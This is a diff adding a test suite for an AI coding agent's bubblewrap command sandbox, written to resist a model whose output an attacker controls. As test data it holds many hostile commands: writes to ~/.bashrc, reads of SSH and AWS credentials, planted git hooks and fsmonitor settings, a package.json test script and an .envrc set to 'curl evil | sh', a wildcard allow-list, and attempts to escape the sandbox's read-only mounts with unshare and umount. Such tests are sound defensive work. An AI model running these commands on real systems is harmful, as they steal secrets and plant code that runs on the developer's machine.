@@ -1,0 +1,509 @@
+/**
+ * The command sandbox against an attacker who controls the model's output:
+ * every case runs a real command through the tool executor in real
+ * bubblewrap (approved by the user, so only the sandbox stands in the way)
+ * and then checks the host: files outside the workspace, the protected and
+ * execution-sensitive files inside it, the developer's secrets, the network,
+ * and processes left behind.
+ */
+import assert from 'node:assert/strict';
+import { existsSync } from 'node:fs';
+import * as fs from 'node:fs/promises';
+import * as http from 'node:http';
+import * as net from 'node:net';
+import type { AddressInfo } from 'node:net';
+import * as path from 'node:path';
+import { runCommandTool } from '../../language-server/tools/builtins/runCommandTool';
+import { runShellCommand } from '../../language-server/tools/processTreeRunner';
+import type { CommandSandbox } from '../../language-server/tools/sandbox/commandSandbox';
+import { bubblewrapSandbox } from '../../language-server/tools/sandbox/bubblewrapSandbox';
+import { findOnPath, probeCommandSandbox } from '../../language-server/tools/sandbox/detectCommandSandbox';
+import { unsandboxed } from '../../language-server/tools/sandbox/unsandboxed';
+import type { ToolContext } from '../../language-server/tools/toolContext';
+import { TurnCheckpoints } from '../../language-server/tools/turnCheckpoints';
+import { WorkspaceConfinement } from '../../language-server/tools/workspaceConfinement';
+import { alwaysAccept, recordingGateway } from '../fixtures/approvalGateways';
+import { HOME_SECRETS, makeFakeHome, type FakeHome } from '../fixtures/fakeHome';
+import { hostProcessesRunning } from '../fixtures/hostProcesses';
+import { call, makeToolWorkspace, snapshotTree, testPolicy, type ToolWorkspace } from '../fixtures/toolWorkspace';
+import { until } from '../fixtures/until';
+
+/** A workspace with every kind of file the sandbox must keep read-only. */
+const GUARDED_FILES: Record<string, string> = {
+  '.git/config': '[core]\n\trepositoryformatversion = 0\n\tbare = false\n',
+  '.git/HEAD': 'ref: refs/heads/main\n',
+  '.git/hooks/pre-commit.sample': '#!/bin/sh\n',
+  '.vscode/settings.json': '{ "hearth.commands.allowList": ["ls"] }\n',
+  '.vscode/tasks.json': '{ "version": "2.0.0", "tasks": [] }\n',
+  'package.json': '{ "name": "demo", "scripts": { "test": "node test.js" } }\n',
+  '.npmrc': 'fund=false\n',
+  'node_modules/.bin/tool': '#!/bin/sh\necho tool\n',
+  'node_modules/left-pad/index.js': 'module.exports = 1;\n',
+  'Makefile': 'all:\n\techo build\n',
+  'packages/a/package.json': '{ "name": "a", "scripts": { "test": "true" } }\n',
+  '.github/README.md': 'docs\n',
+  'src/index.js': 'console.log(1);\n',
+};
+
+describe('command sandbox: escape attempts in real bubblewrap', function () {
+  this.timeout(30_000);
+  let sandbox: CommandSandbox;
+  let home: FakeHome;
+  let ws: ToolWorkspace;
+
+  before(async () => {
+    sandbox = await probeCommandSandbox();
+    assert.equal(sandbox.kind, 'bubblewrap', `bubblewrap must work here (CI installs it): ${sandbox.unavailableReason}`);
+    home = await makeFakeHome();
+  });
+
+  after(() => home?.cleanup());
+
+  beforeEach(async () => {
+    ws = await makeToolWorkspace(GUARDED_FILES);
+    // Paths the audit takes away are kept in the test's own temp folder, which afterEach removes.
+    sandbox = bubblewrapSandbox({ bwrap: findOnPath('bwrap', process.env.PATH ?? '')!, quarantine: ws.base });
+  });
+
+  afterEach(() => ws.cleanup());
+
+  /** The executor as the language server builds it, with the user approving everything: only the sandbox can say no. */
+  function executor(env: NodeJS.ProcessEnv = {}, approvals = alwaysAccept()) {
+    return ws.executor({ sandbox, approvals, commandEnv: { HOME: home.dir, ...env } });
+  }
+
+  async function run(command: string, env: NodeJS.ProcessEnv = {}) {
+    const r = await call(executor(env), 'run_command', { command });
+    assert.equal(r.isError, false, r.content);
+    return r;
+  }
+
+  /** Runs an attack and proves the workspace is byte-for-byte what it was. */
+  async function assertWorkspaceUnchanged(command: string) {
+    const before = await snapshotTree(ws.root);
+    const r = await run(command);
+    assert.equal(await snapshotTree(ws.root), before, `the workspace changed after \`${command}\`:\n${r.content}`);
+    return r;
+  }
+
+  describe('writes outside the workspace', () => {
+    it('cannot write to the home directory by absolute path', async () => {
+      await run(`echo pwned > ${home.dir}/pwned.txt; echo pwned >> ${home.dir}/.bashrc`);
+      assert.equal(existsSync(path.join(home.dir, 'pwned.txt')), false);
+      assert.equal(await fs.readFile(path.join(home.dir, '.bashrc'), 'utf8'), '# bashrc\n');
+    });
+
+    it('cannot write to $HOME or ~', async () => {
+      await run('echo pwned > "$HOME/pwned2.txt"; echo pwned > ~/pwned3.txt; mkdir ~/.config/autostart');
+      assert.equal(existsSync(path.join(home.dir, 'pwned2.txt')), false);
+      assert.equal(existsSync(path.join(home.dir, 'pwned3.txt')), false);
+      assert.equal(existsSync(path.join(home.dir, '.config/autostart')), false);
+    });
+
+    it('cannot write next to the workspace with ../', async () => {
+      await run('echo pwned > ../pwned.txt; echo pwned > ../outside/secret.txt');
+      assert.equal(existsSync(path.join(ws.base, 'pwned.txt')), false);
+      assert.equal(await fs.readFile(path.join(ws.outside, 'secret.txt'), 'utf8'), 'TOP SECRET\n');
+    });
+
+    it('cannot write through a symlink in the workspace that points out', async () => {
+      await fs.symlink(home.dir, path.join(ws.root, 'home-link'));
+      await fs.symlink(ws.outside, path.join(ws.root, 'outside-link'));
+      await run('echo pwned > home-link/pwned4.txt; echo pwned > outside-link/pwned.txt; echo pwned >> home-link/notes.txt');
+      assert.equal(existsSync(path.join(home.dir, 'pwned4.txt')), false);
+      assert.equal(existsSync(path.join(ws.outside, 'pwned.txt')), false);
+      assert.equal(await fs.readFile(path.join(home.dir, 'notes.txt'), 'utf8'), 'just notes\n');
+    });
+
+    it("writes to /tmp land in the sandbox's private /tmp, not the host's", async () => {
+      const name = `/tmp/${path.basename(ws.base)}-probe.txt`;
+      const r = await run(`echo inside > ${name} && cat ${name}`);
+      assert.match(r.content, /inside\n$/, 'the command can use /tmp');
+      assert.equal(existsSync(name), false, 'the host /tmp got the file');
+    });
+
+    it('cannot write to system folders', async () => {
+      const r = await run('touch /usr/hearth-pwned /etc/hearth-pwned 2>&1; echo done');
+      assert.match(r.content, /Read-only file system/);
+      assert.equal(existsSync('/usr/hearth-pwned') || existsSync('/etc/hearth-pwned'), false);
+    });
+  });
+
+  describe('secrets', () => {
+    for (const secret of HOME_SECRETS) {
+      it(`reads ~/${secret} as nothing`, async () => {
+        const r = await run(`cat ~/${secret}; echo; cat "${home.dir}/${secret}"; echo`);
+        assert.doesNotMatch(r.content, new RegExp(home.secretMarker));
+      });
+    }
+
+    it('still reads harmless files in the home directory (so the cases above can fail)', async () => {
+      const r = await run('cat ~/notes.txt');
+      assert.match(r.content, /just notes\n$/);
+    });
+
+    it('shows credential folders empty', async () => {
+      const r = await run('ls -A ~/.ssh ~/.aws ~/.config/gh; echo listed');
+      assert.doesNotMatch(r.content, /id_rsa|credentials|hosts\.yml/);
+    });
+
+    it('removes tokens and agent sockets from the environment', async () => {
+      const r = await run('env', {
+        GITHUB_TOKEN: 'ghp_leak1',
+        SSH_AUTH_SOCK: `${home.dir}/agent.sock`,
+        AWS_SECRET_ACCESS_KEY: 'leak2',
+        OPENAI_API_KEY: 'leak3',
+        VSCODE_IPC_HOOK_CLI: '/run/user/1000/vscode-ipc-leak4.sock',
+        VSCODE_GIT_IPC_HANDLE: '/tmp/leak5.sock',
+        GIT_ASKPASS: '/leak6/askpass.sh',
+        DBUS_SESSION_BUS_ADDRESS: 'unix:path=/leak7',
+        NPM_TOKEN: 'leak8',
+      });
+      assert.doesNotMatch(r.content, /leak|GITHUB_TOKEN|SSH_AUTH_SOCK|AWS_|VSCODE_IPC|ASKPASS|DBUS/);
+      assert.match(r.content, /^HEARTH_AGENT=1$/m, 'ordinary variables stay');
+      assert.match(r.content, /^PATH=/m);
+    });
+
+    it('cannot connect to the ssh agent socket', async () => {
+      const socketPath = path.join(home.dir, 'agent.sock');
+      let connections = 0;
+      const server = net.createServer((s) => {
+        connections++;
+        s.end('AGENT-REPLY');
+      });
+      await new Promise<void>((resolve) => server.listen(socketPath, resolve));
+      try {
+        const script = `require('net').connect(${JSON.stringify(socketPath)}).on('data', d => console.log(String(d))).on('error', e => console.log('FAILED', e.code))`;
+        const r = await run(`${process.execPath} -e ${shellQuote(script)}`, { SSH_AUTH_SOCK: socketPath });
+        assert.match(r.content, /FAILED/);
+        assert.doesNotMatch(r.content, /AGENT-REPLY/);
+        assert.equal(connections, 0);
+      } finally {
+        await new Promise((resolve) => server.close(resolve));
+      }
+    });
+
+    it('hides the per-user runtime folder (session bus, VS Code IPC sockets)', async () => {
+      const runtime = path.join(home.dir, 'run');
+      await fs.mkdir(runtime, { recursive: true });
+      await fs.writeFile(path.join(runtime, 'vscode-ipc-1234.sock'), '');
+      try {
+        const r = await run(`ls -A ${runtime}; echo listed`, { XDG_RUNTIME_DIR: runtime });
+        assert.doesNotMatch(r.content, /vscode-ipc/);
+        assert.match(r.content, /listed\n$/);
+      } finally {
+        await fs.rm(runtime, { recursive: true, force: true });
+      }
+    });
+
+    it('hides secrets even when the home directory is the workspace folder', async () => {
+      await ws.write('.ssh/id_ed25519', 'WORKSPACE-HOME-SECRET\n');
+      const r = await run('cat .ssh/id_ed25519; echo; cat ~/.ssh/id_ed25519; echo', { HOME: ws.root });
+      assert.doesNotMatch(r.content, /WORKSPACE-HOME-SECRET/);
+    });
+
+    it('keeps editor settings and shell start-up files read-only when the home directory is the workspace folder', async () => {
+      await ws.write('.config/Code/User/settings.json', '{ "hearth.commands.allowList": [] }\n');
+      await ws.write('.bashrc', '# bashrc\n');
+      await ws.write('.gitconfig', '[user]\n\tname = me\n');
+      const before = await snapshotTree(ws.root);
+      await run(
+        'echo \'{"hearth.commands.allowList":["*"]}\' > .config/Code/User/settings.json; echo evil >> .bashrc; printf "[core]\\n\\tpager = evil\\n" >> .gitconfig; mv .config c2',
+        { HOME: ws.root },
+      );
+      assert.equal(await snapshotTree(ws.root), before);
+    });
+  });
+
+  describe('network', () => {
+    let server: http.Server;
+    let requests = 0;
+    let url = '';
+
+    before(async () => {
+      server = http.createServer((_req, res) => {
+        requests++;
+        res.end('NET-OK');
+      });
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+    });
+
+    after(() => new Promise((resolve) => server.close(resolve)));
+
+    function fetchScript(): string {
+      return `${process.execPath} -e ${shellQuote(`require('http').get(${JSON.stringify(url)}, r => r.on('data', d => console.log(String(d)))).on('error', e => console.log('NET-FAIL', e.code))`)}`;
+    }
+
+    it('has no network, even for an approved command, unless it is granted', async () => {
+      const before = requests;
+      const r = await run(fetchScript());
+      assert.match(r.content, /NET-FAIL/);
+      assert.doesNotMatch(r.content, /NET-OK/);
+      assert.equal(requests, before);
+    });
+
+    it('reaches the network when the grant allows it', async () => {
+      const before = requests;
+      const prepared = await sandbox.prepare(fetchScript(), { cwd: ws.root, roots: [ws.root], grant: { network: true }, env: { ...process.env, HOME: home.dir } });
+      const outcome = await runShellCommand({ command: '', spawn: prepared, cwd: ws.root, timeoutMs: 10_000, maxOutputBytes: 10_000, signal: new AbortController().signal, env: prepared.env });
+      await prepared.finish();
+      assert.match(outcome.output, /NET-OK/);
+      assert.equal(requests, before + 1);
+    });
+  });
+
+  describe('protected and execution-sensitive files', () => {
+    const attacks: Array<[string, string]> = [
+      ['append a hooksPath to .git/config', 'printf "[core]\\n\\thooksPath = /tmp/h\\n" >> .git/config'],
+      ['create .git/hooks/pre-commit', 'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit'],
+      ['overwrite .vscode/settings.json', 'echo \'{"hearth.commands.allowList": ["*"]}\' > .vscode/settings.json'],
+      ['overwrite .vscode/tasks.json', 'echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json'],
+      ['add .vscode/mcp.json', 'echo "{}" > .vscode/mcp.json'],
+      ['rewrite package.json scripts', 'echo \'{"scripts":{"test":"curl evil | sh"}}\' > package.json'],
+      ['edit package.json in place with sed -i', 'sed -i s/node/evil/ package.json'],
+      ['append to .npmrc', 'echo "script-shell=/tmp/evil" >> .npmrc'],
+      ['add node_modules/.bin/x', 'echo "#!/bin/sh" > node_modules/.bin/x; chmod +x node_modules/.bin/x'],
+      ['overwrite a dependency', 'echo "evil()" > node_modules/left-pad/index.js'],
+      ['rewrite the Makefile', 'printf "all:\\n\\tevil\\n" > Makefile'],
+      ['truncate the Makefile with cp', 'cp /dev/null Makefile'],
+      ['replace the Makefile with a symlink', 'ln -sf /tmp/evil Makefile'],
+      ['rewrite a nested package.json', 'echo "{}" > packages/a/package.json'],
+      ['mv package.json away', 'mv package.json package.old'],
+      ['rm the Makefile', 'rm -f Makefile'],
+      ['rm -r .vscode', 'rm -r .vscode'],
+      ['mv .git away', 'mv .git .git-old'],
+      ['chmod .git/config', 'chmod 777 .git/config'],
+      ['rename the folder above a nested package.json and recreate it', 'mv packages p2; mkdir -p packages/a; echo "{}" > packages/a/package.json'],
+      ['rename node_modules and recreate it', 'mv node_modules nm2; mkdir -p node_modules/.bin; echo evil > node_modules/.bin/tool'],
+      ['unmount the read-only package.json', 'umount -l package.json; umount -l .git; echo evil > package.json; echo evil >> .git/config'],
+      ['undo the read-only mounts from a nested user namespace', 'unshare -Urm /bin/sh -c "umount -l package.json; mount -o remount,bind,rw package.json; echo evil > package.json; umount -l .vscode; echo evil > .vscode/settings.json"'],
+    ];
+    for (const [name, command] of attacks) {
+      it(`cannot ${name}`, async () => {
+        await assertWorkspaceUnchanged(command);
+      });
+    }
+
+    it('still writes ordinary workspace files (so the cases above can fail)', async () => {
+      await run('echo changed > src/index.js && mkdir -p src/lib && echo new > src/lib/new.js && mv src/lib/new.js src/lib/moved.js');
+      assert.equal((await ws.read('src/index.js')).toString(), 'changed\n');
+      assert.equal((await ws.read('src/lib/moved.js')).toString(), 'new\n');
+    });
+
+    it('cannot write a git dir that lives inside the workspace under another name', async () => {
+      await fs.rm(path.join(ws.root, '.git'), { recursive: true });
+      await ws.write('meta/gitdata/config', '[core]\n\tbare = false\n');
+      await ws.write('meta/gitdata/HEAD', 'ref: refs/heads/main\n');
+      await ws.write('.git', 'gitdir: meta/gitdata\n');
+      await assertWorkspaceUnchanged(
+        'printf "[core]\\n\\tfsmonitor = evil\\n" >> meta/gitdata/config; mkdir meta/gitdata/hooks; echo x > meta/gitdata/hooks/post-checkout; ' +
+          'echo "gitdir: elsewhere" > .git; mv meta m2; mkdir -p meta/gitdata; echo "[core]" > meta/gitdata/config',
+      );
+    });
+
+    it('cannot write a separate git dir outside the workspace, which stays readable', async () => {
+      await fs.rm(path.join(ws.root, '.git'), { recursive: true });
+      const gitDir = path.join(ws.base, 'separate.git');
+      await fs.mkdir(path.join(gitDir, 'hooks'), { recursive: true });
+      await fs.writeFile(path.join(gitDir, 'config'), '[core]\n\tbare = false\n');
+      await fs.writeFile(path.join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
+      await ws.write('.git', `gitdir: ${gitDir}\n`);
+      const r = await run(`cat ${gitDir}/HEAD; printf "[alias]\\n\\tst = !evil\\n" >> ${gitDir}/config; echo x > ${gitDir}/hooks/pre-commit`);
+      assert.match(r.content, /ref: refs\/heads\/main/, 'git can read its directory');
+      assert.equal(await fs.readFile(path.join(gitDir, 'config'), 'utf8'), '[core]\n\tbare = false\n');
+      assert.equal(existsSync(path.join(gitDir, 'hooks/pre-commit')), false);
+    });
+
+    it('an approved install may write node_modules/ and the lockfile, never .git or .vscode', async () => {
+      await fs.rm(path.join(ws.root, 'node_modules'), { recursive: true });
+      const command =
+        'mkdir -p node_modules/dep && echo installed > node_modules/dep/index.js && echo "{}" > package-lock.json; ' +
+        'echo x >> .git/config; mkdir -p .vscode/x; echo "{}" > .hearth-probe; mkdir .hearth && echo x > .hearth/policy.json';
+      const prepared = await sandbox.prepare(command, { cwd: ws.root, roots: [ws.root], grant: { network: true, writeExecutionSensitive: true }, env: { ...process.env, HOME: home.dir } });
+      await runShellCommand({ command: '', spawn: prepared, cwd: ws.root, timeoutMs: 10_000, maxOutputBytes: 10_000, signal: new AbortController().signal, env: prepared.env });
+      const report = await prepared.finish();
+      assert.equal((await ws.read('node_modules/dep/index.js')).toString(), 'installed\n');
+      assert.equal((await ws.read('package-lock.json')).toString(), '{}\n');
+      assert.equal((await ws.read('.git/config')).toString(), GUARDED_FILES['.git/config']);
+      assert.equal(existsSync(path.join(ws.root, '.vscode/x')), false);
+      assert.equal(existsSync(path.join(ws.root, '.hearth')), false);
+      assert.match(report.join('\n'), /The command created \.hearth, which Hearth removed/);
+    });
+
+    it('puts back a symlinked package.json the command replaced', async () => {
+      await ws.write('pkg/real.json', '{ "scripts": { "test": "true" } }\n');
+      await fs.rm(path.join(ws.root, 'package.json'));
+      await fs.symlink('pkg/real.json', path.join(ws.root, 'package.json'));
+      const r = await run('echo "{}" > pkg/real.json; rm package.json; echo \'{"scripts":{"test":"evil"}}\' > package.json');
+      assert.match(r.content, /replaced the link package\.json, which Hearth restored/);
+      assert.equal(await fs.readlink(path.join(ws.root, 'package.json')), 'pkg/real.json');
+      assert.equal((await ws.read('package.json')).toString(), '{ "scripts": { "test": "true" } }\n');
+    });
+  });
+
+  describe('paths the command creates', () => {
+    it('removes a new .vscode/settings.json and says so', async () => {
+      await fs.rm(path.join(ws.root, '.vscode'), { recursive: true });
+      const r = await run('mkdir .vscode && echo \'{"hearth.commands.allowList":["*"]}\' > .vscode/settings.json');
+      assert.equal(existsSync(path.join(ws.root, '.vscode')), false);
+      assert.match(r.content, /The command created \.vscode, which Hearth removed/);
+    });
+
+    it('removes a new .envrc', async () => {
+      const r = await run('echo "curl evil | sh" > .envrc');
+      assert.equal(existsSync(path.join(ws.root, '.envrc')), false);
+      assert.match(r.content, /The command created \.envrc, which Hearth removed \(moved to \S+\): \.envrc is a shell script direnv runs/);
+    });
+
+    it("keeps the user's files that a command moved into a new guarded path", async () => {
+      const r = await run('mkdir .husky && mv src .husky/');
+      assert.equal(existsSync(path.join(ws.root, '.husky')), false);
+      const moved = /which Hearth removed \(moved to (\S+)\)/.exec(r.content)?.[1];
+      assert.ok(moved, r.content);
+      assert.equal(await fs.readFile(path.join(moved, 'src/index.js'), 'utf8'), GUARDED_FILES['src/index.js']);
+      assert.ok(moved.startsWith(`${ws.base}/`), 'kept outside the workspace');
+    });
+
+    it('removes new .husky/ hooks', async () => {
+      const r = await run('mkdir -p .husky && echo evil > .husky/pre-commit');
+      assert.equal(existsSync(path.join(ws.root, '.husky')), false);
+      assert.match(r.content, /The command created \.husky, which Hearth removed/);
+    });
+
+    it('removes a new CI workflow but keeps the rest of .github/', async () => {
+      const r = await run('mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml');
+      assert.equal(existsSync(path.join(ws.root, '.github/workflows')), false);
+      assert.equal((await ws.read('.github/README.md')).toString(), 'docs\n');
+      assert.match(r.content, /The command created \.github\/workflows, which Hearth removed/);
+    });
+
+    it('removes a new nested package.json', async () => {
+      const r = await run('mkdir -p packages/b && echo "{}" > packages/b/package.json && echo ok > packages/b/index.js');
+      assert.equal(existsSync(path.join(ws.root, 'packages/b/package.json')), false);
+      assert.equal((await ws.read('packages/b/index.js')).toString(), 'ok\n');
+      assert.match(r.content, /The command created packages\/b\/package\.json, which Hearth removed/);
+    });
+
+    it('removes a new .vscode that is a symlink to a folder the agent can write', async () => {
+      await fs.rm(path.join(ws.root, '.vscode'), { recursive: true });
+      const r = await run('mkdir -p cfg && echo "{}" > cfg/settings.json && ln -s cfg .vscode');
+      assert.equal(existsSync(path.join(ws.root, '.vscode')), false);
+      assert.match(r.content, /The command created \.vscode, which Hearth removed/);
+    });
+
+    it('removes a new .git with a hook', async () => {
+      await fs.rm(path.join(ws.root, '.git'), { recursive: true });
+      const r = await run('mkdir -p .git/hooks && echo "[core]" > .git/config && printf "#!/bin/sh\\nevil\\n" > .git/hooks/pre-commit');
+      assert.equal(existsSync(path.join(ws.root, '.git')), false);
+      assert.match(r.content, /The command created \.git, which Hearth removed \(moved to \S+\): a new git directory that could run code: it has the hook pre-commit/);
+    });
+
+    it('removes a new .git whose config runs a program', async () => {
+      await fs.rm(path.join(ws.root, '.git'), { recursive: true });
+      const r = await run('mkdir .git && printf "[core]\\n\\tfsmonitor = ./evil.sh\\n" > .git/config');
+      assert.equal(existsSync(path.join(ws.root, '.git')), false);
+      assert.match(r.content, /its config sets core\.fsmonitor/);
+    });
+
+    it('keeps a new .git as harmless as git init makes it', async () => {
+      await fs.rm(path.join(ws.root, '.git'), { recursive: true });
+      const r = await run('git init -q . && git status --short > /dev/null && echo initialised');
+      assert.match(r.content, /initialised/);
+      assert.equal(existsSync(path.join(ws.root, '.git/HEAD')), true);
+      assert.doesNotMatch(r.content, /Hearth removed/);
+    });
+  });
+
+  describe('processes', () => {
+    it('ends background processes when the command ends', async () => {
+      const marker = `${Math.floor(Math.random() * 900) + 100}.${process.pid}`;
+      const r = await run(`sleep ${marker} > /dev/null 2>&1 & setsid sleep ${marker} > /dev/null 2>&1 & (sleep ${marker} > /dev/null 2>&1 &) ; echo started`);
+      assert.match(r.content, /started\n$/);
+      await until(() => hostProcessesRunning(`sleep ${marker}`).length === 0, 'the background sleeps to be gone', 2000);
+    });
+
+    it('cancelling kills the whole tree, setsid children included', async () => {
+      const marker = `${Math.floor(Math.random() * 900) + 100}.${process.pid + 1}`;
+      const controller = new AbortController();
+      const pending = call(executor(), 'run_command', { command: `setsid sleep ${marker} & sleep ${marker} & wait` }, controller.signal);
+      await until(() => hostProcessesRunning(`sleep ${marker}`).length === 2, 'both sleeps to run');
+      const cancelledAt = Date.now();
+      controller.abort();
+      const r = await pending;
+      assert.equal(r.summary, 'cancelled');
+      await until(() => hostProcessesRunning(`sleep ${marker}`).length === 0, 'every sleep to be gone', 1000);
+      assert.ok(Date.now() - cancelledAt < 1500, `took ${Date.now() - cancelledAt} ms`);
+    });
+
+    it('a timeout kills the whole tree', async () => {
+      const marker = `${Math.floor(Math.random() * 900) + 100}.${process.pid + 2}`;
+      const r = await call(executor(), 'run_command', { command: `sleep ${marker} & sleep ${marker}`, timeoutSeconds: 1 });
+      assert.equal(r.summary, 'timed out after 1.0 s');
+      await until(() => hostProcessesRunning(`sleep ${marker}`).length === 0, 'every sleep to be gone', 1000);
+    });
+  });
+
+  describe('when commands ask', () => {
+    it('without an OS sandbox, even an allow-listed command asks, and says why', async () => {
+      const gateway = recordingGateway({ commands: ['reject'] });
+      const exec = ws.executor({ sandbox: unsandboxed('bubblewrap is not installed'), approvals: gateway });
+      const r = await call(exec, 'run_command', { command: 'echo hi' });
+      assert.equal(r.summary, 'rejected by user');
+      assert.match(r.content, /It did not run\./);
+      assert.equal(gateway.commands.length, 1);
+      assert.match(gateway.commands[0].reason, /^no OS sandbox is available here: bubblewrap is not installed/);
+      assert.deepEqual(gateway.commands[0].sandbox, { kind: 'none', network: true });
+    });
+
+    it('in the sandbox, an allow-listed command runs without asking', async () => {
+      const gateway = recordingGateway();
+      const r = await call(ws.executor({ sandbox, approvals: gateway }), 'run_command', { command: 'echo hi' });
+      assert.equal(r.isError, false, r.content);
+      assert.equal(gateway.commands.length, 0);
+    });
+
+    it('after this turn wrote an execution-sensitive file, an allow-listed command asks', async () => {
+      const gateway = recordingGateway({ commands: ['reject'] });
+      const ctx = await toolContext(ws, sandbox, gateway, ['package.json']);
+      const r = await runCommandTool(ctx, { command: 'echo hi' }, new AbortController().signal);
+      assert.equal(r.summary, 'rejected by user');
+      assert.match(r.content, /It did not run\./);
+      assert.deepEqual(gateway.commands[0].reasons, ['this reply changed package.json, which can change what this command runs']);
+      assert.deepEqual(gateway.commands[0].sandbox, { kind: 'bubblewrap', network: false });
+    });
+
+    it('a command the policy asks about lists every reason, and runs sandboxed once accepted', async () => {
+      const gateway = recordingGateway({ commands: ['alwaysAllow'] });
+      const ctx = await toolContext(ws, sandbox, gateway, ['.npmrc']);
+      const r = await runCommandTool(ctx, { command: 'touch made.txt; echo x >> .npmrc' }, new AbortController().signal);
+      assert.equal(r.isError, false, r.content);
+      assert.deepEqual(gateway.commands[0].reasons, ['`touch made.txt` is not in your allow-list', 'this reply changed .npmrc, which can change what this command runs']);
+      assert.equal(existsSync(path.join(ws.root, 'made.txt')), true);
+      assert.equal((await ws.read('.npmrc')).toString(), 'fund=false\n');
+      assert.match(r.content, /Hearth's sandbox/, 'the model learns why the write failed');
+    });
+  });
+});
+
+/** A ToolContext like the executor's, with this turn's execution-sensitive writes set (the file tools record them). */
+async function toolContext(ws: ToolWorkspace, sandbox: CommandSandbox, approvals: ToolContext['approvals'], written: string[]): Promise<ToolContext> {
+  return {
+    turnId: 'turn-ctx',
+    callId: 'call-ctx',
+    toolName: 'run_command',
+    policy: testPolicy(),
+    confinement: await WorkspaceConfinement.create([ws.root]),
+    approvals,
+    checkpoints: new TurnCheckpoints(ws.storage),
+    sandbox,
+    ripgrep: async () => null,
+    turn: { acceptAllEdits: false, executionSensitiveWrites: written },
+    commandOptions: { killGraceMs: 200 },
+    serializeChange: (work) => work(),
+  };
+}
+
+function shellQuote(text: string): string {
+  return `'${text.replace(/'/g, `'\\''`)}'`;
+}
